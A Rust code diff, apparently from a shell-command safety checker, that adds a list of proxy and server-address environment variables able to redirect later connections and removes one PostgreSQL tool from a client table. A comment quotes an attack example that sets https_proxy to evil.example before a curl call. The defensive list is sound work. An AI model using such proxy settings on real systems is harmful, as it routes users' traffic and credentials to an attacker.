@@ -769,6 +769,29 @@ const INHERITED_VARIABLES: &[&str] = &[
     "LANG", "LANGUAGE", "TZ",
 ];
 
+/// What `/etc/environment` (pam_env) commonly sets for every session:
+/// proxies and the servers clients connect to. Set again by a statement,
+/// each is exported again, and a later client connects where it says
+/// (review 88: `https_proxy=http://evil.example:3128; curl …`).
+pub(crate) const STEERING_ENVIRONMENT: &[&str] = &[
+    "http_proxy",
+    "https_proxy",
+    "HTTP_PROXY",
+    "HTTPS_PROXY",
+    "ALL_PROXY",
+    "all_proxy",
+    "no_proxy",
+    "NO_PROXY",
+    "ftp_proxy",
+    "FTP_PROXY",
+    "VAULT_ADDR",
+    "PGHOST",
+    "PGHOSTADDR",
+    "DOCKER_HOST",
+    "CONTAINER_HOST",
+    "KUBECONFIG",
+];
+
 /// `NAME=value` before the program `program` (as written, or after
 /// `builtin`/`command`): as [`command_environment`], but `IFS` before
 /// `read` only sets how `read` splits the line it reads (`while IFS= read
@@ -1967,7 +1990,7 @@ const TABLED_CLIENTS: &[&str] = &[
     "rfkill", "bluetoothctl", "btmgmt", "hciconfig", "usbip", "usb-devices", "nmcli",
     // Blind corpus 102.
     "etcdutl", "pg_controldata", "pg_ctl", "pg_checksums", "pg_verifybackup", "pg_resetwal",
-    "pg_resetxlog", "pg_waldump", "pg_ctlcluster", "mysqlcheck", "mariadb-check",
+    "pg_resetxlog", "pg_waldump", "mysqlcheck", "mariadb-check",
     // Blind corpus 101.
     "lynis", "chkrootkit", "clamscan", "clamdscan", "sigtool", "aulast", "augenrules",
     "aa-unconfined", "authselect",
